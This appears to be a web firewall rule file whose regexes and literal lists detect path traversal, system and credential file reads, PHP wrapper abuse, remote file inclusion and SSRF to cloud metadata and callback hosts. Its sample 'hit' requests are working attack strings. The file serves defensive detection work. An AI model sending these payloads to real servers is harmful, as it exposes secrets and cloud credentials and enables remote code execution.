# Files: climbing out of the web folder, reading what must not be read, including foreign files.

[traversal-dots]
about = climb out of the web folder
class = traversal
weight = 5
tags = CWE-22 CAPEC-126 T1083
in = all
literal = ../ ..\ ..;/ ..%2 ..%5 .%2e %2e%2e .../ ...\ ..// ./. ..0x2f ..%c ..\\ ..%u
pattern = (?:^|[=/\\:?&;,"'\s(]|\x00|[a-z0-9])\.{2,6}(?:[/\\]|;/|0x2f|0x5c|%c[01]|%25c[01]|%u221[56]|%%32|%bg|%2f|%5c){1,6}(?:\.{1,6}(?:[/\\]|;/|0x2f|0x5c|%c[01]|%2f|%5c)|[a-z%.])|\.%2e[/\\%]|%2e%2e[/\\%]|%2e\.[/\\%]|\.\.%[25cu]
hit = /show?file=../../../etc/hosts
hit = /..%252f..%252f..%252fetc/shadow
hit = /static/..%c0%af..%c0%afwindows
miss = /docs?range=1...5&next=../

[traversal-deep]
about = climb many steps out of the web folder
class = traversal
weight = 2.5
tags = CWE-22 CAPEC-126 T1083
in = all
literal = ../../ ..\..\ ..//..// ....// ..;/..;/ ....\/
pattern = (?:\.{2,4}(?:;?[/\\]{1,4})){2}
hit = /show?file=../../x
miss = /a/../b

[traversal-encoded]
about = climb out of the web folder with dots and slashes in disguise
class = traversal
weight = 4.5
tags = CWE-22 CAPEC-64 CAPEC-79
in = target body
literal = %c0%ae %c0%af %c1%9c %c0%2f %c0%5c %252e %252f %255c %%32 %uff0e %u2215 %u2216 %2e%2e %c0%2e %e0%80%af %e0%80%ae %c0%9v %c1%1c %c0%qf %c1%8s %c1%pc %f0%80 %fc%80 %c0%5e %c0%fe %c0%6e %uefc8 %uf025 %32%65 %c1%af
pattern = %(?:25)?(?:c0|c1|e0%(?:25)?80|f0%(?:25)?80%(?:25)?80|f8%(?:25)?80%(?:25)?80%(?:25)?80|fc(?:%(?:25)?80){4})%(?:25)?(?:ae|af|9c|2f|5c|2e|9v|1c|qf|8s|pc|5e|fe|6e)|%252e%252e|%252e\.|\.%252e|%252f\.\.|\.\.%25(?:2f|5c)|%%32%[e6]|%%32(?:%65|e|f)|%u(?:ff0e|2215|2216|efc8|f025)|%2e%2e(?:%2f|%5c|/|\\)|%32%65
hit = /cgi-bin/.%%32%65/.%%32%65/
hit = /..%c1%9c..%c1%9cwinnt
miss = /search?q=100%25+cotton

[file-unix]
about = read a system file
class = traversal
weight = 5.5
tags = CWE-22 CAPEC-126 T1083
in = all
literal = etc/ proc/ var/log root/. home/ .ssh .bash_history usr/local dev/ boot.ini var/www var/run etc\ opt/ .htpasswd var/lib usr/lib
pattern = (?:^|[/\\=:\s"'(;]|\x00)etc[/\\]{1,8}(?:\.?[/\\]){0,6}(?:passwd|shadow|hosts?\b|group\b|issue|motd|fstab|hostname|crontab|sudoers|resolv\.conf|ssh|mysql|apache2?|nginx|httpd|php|my\.cnf|os-release|redhat-release|debian_version|environment|profile|inetd|security|init\.d|pam\.d|network|sysconfig|services|mtab|lsb-release|ld\.so|rc\.|cron|vsftpd|proftpd|samba|bash|ansible|kubernetes|exports|aliases|logrotate|master\.passwd|pwd\.db|openldap|wgetrc|nsswitch)|\bproc[/\\]{1,4}(?:self|version|cpuinfo|net|cmdline|mounts|sched_debug|\d{1,6}|stat|meminfo|filesystems|partitions)|[/\\]var[/\\]{1,4}(?:log|run|lib|spool|mail|adm|apache2?|cpanel|htmp|nginx|www[/\\]logs)[/\\]|[/\\](?:home[/\\]{1,4}[^/\\\s&]{1,40}|root)[/\\]{1,4}\.(?:ssh|bash|aws|profile|mysql|vim|my|docker|kube|gnupg|zsh|npmrc|config)|\.bash_history|\.ssh[/\\]|id_rsa\b|usr[/\\]{1,4}local[/\\]{1,4}(?:apache|etc|nginx|php|www|tomcat|cpanel|pgsql|mysql|zeus|psa)|[/\\]opt[/\\]{1,4}(?:lampp|xampp|tomcat|jboss|nginx|apache)|usr[/\\]{1,4}(?:lib|pkg|share|ports|src)[/\\]{1,4}(?:php|security|apache|tomcat|nginx)|[/\\]dev[/\\](?:tcp|udp|fd|stdin|random)\b
hit = /show?file=/etc/passwd
hit = body: name=../../../../proc/self/environ
miss = /company/etc/products?home=1

[file-windows]
about = read a file of Windows
class = traversal
weight = 5.5
tags = CWE-22 CAPEC-126 T1083
in = all
literal = boot.ini win.ini system32 system.ini windows\ windows/ winnt inetpub sam.log unattend repair/sam repair\sam autoexec.bat php.ini c:\ c:/ d:\ xampp global.asa desktop.ini
pattern = \bboot\.ini\b|\bwin\.ini\b|\bsystem32\b|\bsystem\.ini\b|\bwin(?:dows|nt)[/\\]{1,4}(?:win|sys|system|repair|debug|panther|php|iis|explorer|my|regedit|temp|microsoft|drivers|tasks|notepad)|\binetpub[/\\]|unattend(?:ed)?\.(?:xml|txt)|repair[/\\]sam\b|\bautoexec\.bat\b|(?:^|[=/\\\s"'(])[c-e]:[/\\]{1,4}(?:win|boot|inetpub|program|users|php|xampp|apache|sys|temp|docum|mysql|wamp|nginx|autoexec|web|home|tomcat|config|\.\.|\*|$)|\bglobal\.asa\b
hit = /show?file=..\..\windows\win.ini
miss = /learn?topic=windows+and+doors

[file-null-byte]
about = cut a file name short with a NUL byte
class = traversal
weight = 3.6
tags = CWE-158 CAPEC-52
in = target body
literal = %00 %2500 \x00 \0. %u0000 \u0000
pattern = [\w./\\%'"]%(?:25)?00(?:$|[&.'"/ ;%\\]|[a-z])|%u0000|[a-z]\\0\.[a-z]
hit = /show?file=/var/x.txt%00.jpg
miss = /blob?data=100

[file-webinf]
about = read the configuration of a Java application
class = traversal
weight = 5
tags = CWE-22 CAPEC-126 T1083
in = target body
literal = web-inf meta-inf
pattern = (?:web|meta)-inf\b
hit = /static/%2e/WEB-INF/web.xml
miss = /web-information

[file-wrapper]
about = read source code through a PHP stream wrapper
class = traversal
weight = 5.5
tags = CWE-98 CAPEC-252 T1190
in = all
literal = php:// phar:// zip:// expect:// data:// file:// glob:// ogg:// compress. zlib: data:; data:text/plain input:// netdoc: jar: ssh2 rar://
pattern = \b(?:php://(?:filter|input|fd|stdin|memory|temp|output)|phar:[/\\]{2}|zip://[^\s&]{1,200}(?:#|%23)|expect://|data://|file:(?:/{1,3}|\\)|glob://|compress\.(?:zlib|bzip2)://|zlib:|netdoc:|jar:(?:file|http)|ssh2\.[a-z]{1,6}://|rar://)|=data:(?:;|text/plain|,)
hit = /?page=php://filter/convert.base64-encode/resource=index
hit = /?url=file:///etc/x
miss = /?q=a+php+filter+input

[rfi-parameter]
about = make the server run a program from another host (remote file inclusion)
class = rfi
weight = 4.5
tags = CWE-98 CAPEC-193 T1190
in = target body
literal = =http =ftp =// xxpath
pattern = =(?:(?:ht|f)tps?:)?//[^\s&]{1,200}(?:(?:\.txt|\.dat|\.inc|\.cmd|\.gif|\.jpe?g|cmd|r57|c99|shell|id\d?|/)(?:\?{1,3}|%00)(?:$|&)|\?{1,3}(?:$|&)|\.(?:php|txt|sh|dat)\?(?:$|&))|=https?://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[^\s&]{0,100}\.(?:txt|php|sh|gif|jpg|dat)|=(?:ht|f)tps?://[^\s&]{1,200}\.(?:txt|dat)(?:$|&)|xxpathxx|=ftps?://[\w.]
hit = /index.php?page=http://evil.example/shell.txt?
miss = /share?url=https://www.example.com/article

[ssrf-metadata]
about = make the server fetch cloud credentials (instance metadata)
class = ssrf
weight = 6
tags = CWE-918 CAPEC-664 T1552.005
in = all
literal = 169.254.169.254 metadata.google 100.100.100.200 2852039166 0xa9fea9fe metadata.tencent 192.0.0.192 a9fe:a9fe latest/meta-data fd00:ec2 instance-data 0251.0376 computemetadata 169.254.170.2 nip.io
pattern = 169\.254\.1(?:69\.254|70\.2)\b|metadata\.(?:google|tencent)|100\.100\.100\.200|\b2852039166\b|0xa9fea9fe|192\.0\.0\.192|a9fe:a9fe|latest/meta-data|fd00:ec2|//instance-data\b|0251\.0376|computemetadata|\.nip\.io
hit = /fetch?url=http://169.254.169.254/latest/meta-data/
miss = /ip?a=169.254.1.1

[ssrf-internal]
about = make the server call an address inside its own network
class = ssrf
weight = 4
tags = CWE-918 CAPEC-664 T1090
in = target body referer header
literal = //localhost //127. //0. //[ //0x7f //2130706433 //017 //10. //192.168. //172. @localhost @127. spoofed.burp localtest.me docker.internal
pattern = [=\s"'(,@](?:https?|ftp|gopher|dict|ws|tftp|ldap|jar:http):?//(?:[^\s/&@]{0,60}@)?(?:localhost\b|127\.\d|0\.0\.0\.0|0x7f|2130706433|017\d|\[:{1,2}(?:1|ffff|\])|\[0:|\[::|0[/:]|10\.\d{1,3}\.\d{1,3}\.\d|192\.168\.\d{1,3}\.\d|172\.(?:1[6-9]|2\d|3[01])\.\d{1,3}\.\d|spoofed\.burp|localtest\.me)
hit = /proxy?url=http://127.0.0.1:22/
miss = /redirect?url=https://www.example.com/127.html

[ssrf-scheme]
about = make the server speak another protocol to a hidden service
class = ssrf
weight = 5
tags = CWE-918 CAPEC-664 T1090
in = all
literal = gopher:// dict:// ldap:// sftp:// tftp:// ldaps:// jar:http rmi:// iiop://
pattern = [=\s"'(,:]?\b(?:gopher|dict|ldaps?|tftp|sftp|rmi|iiop)://[\w\[.]
hit = /proxy?url=gopher://127.0.0.1:6379/_INFO
miss = /animals?name=gopher

[ssrf-callback]
about = make the server call a listener on the internet, to prove that it can be made to (out-of-band probe)
class = ssrf
weight = 5
tags = CWE-918 CAPEC-664 T1595.002
in = all
literal = interact.sh oast. burpcollaborator dnslog ceye.io requestbin webhook.site pipedream .oastify canarytokens xss.ht bxss.me ngrok interactsh eyes.sh dnsbin pingb.in evil.com attacker.com evil.example r87. example.oast requestcatcher
pattern = \binteract\.sh\b|\boast\.(?:pro|live|site|online|fun|me)\b|burpcollaborator\.net|\bdnslog\.|\bceye\.io|requestbin|webhook\.site|pipedream\.net|\.oastify\.com|canarytokens|\bxss\.ht\b|\bbxss\.me\b|\bngrok(?:-free)?\.(?:io|app)|interactsh|eyes\.sh|dnsbin|pingb\.in|requestcatcher|//(?:www\.)?(?:evil|attacker)\.com\b
hit = /x?u=http://abc.oast.fun
miss = /breakfast?x=toast.fun.day
